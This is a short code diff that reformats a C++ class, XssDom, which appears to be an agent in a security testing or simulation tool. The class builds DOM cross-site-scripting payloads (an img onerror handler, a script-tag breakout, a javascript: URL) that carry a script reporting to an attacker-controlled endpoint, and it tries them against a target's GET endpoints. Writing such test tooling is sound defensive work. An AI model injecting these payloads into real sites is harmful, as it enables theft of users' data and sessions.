@@ -16,9 +16,10 @@ class XssDom final : public Agent {
         if (evil == nullptr || !victim_signs_in(target)) return;
         evil->answer(evil->folder() + "c", {.status = 204});
         std::string const script = taking_script(target, address_on(*evil, "c"));
-        std::vector<std::string> const texts = {
-            "<img src=\"x:\" onerror=" + in_quotes(script) + ">",  // a script set as HTML never runs
-            "\"><script>" + script + "</script>", "javascript:" + script, script};
+        std::vector<std::string> const texts = {"<img src=\"x:\" onerror=" + in_quotes(script) +
+                                                    ">",  // a script set as HTML never runs
+                                                "\"><script>" + script + "</script>",
+                                                "javascript:" + script, script};
         std::size_t links = 0;
         for (Endpoint const* endpoint : endpoints_to_try(target)) {
             if (endpoint->method != "GET") continue;
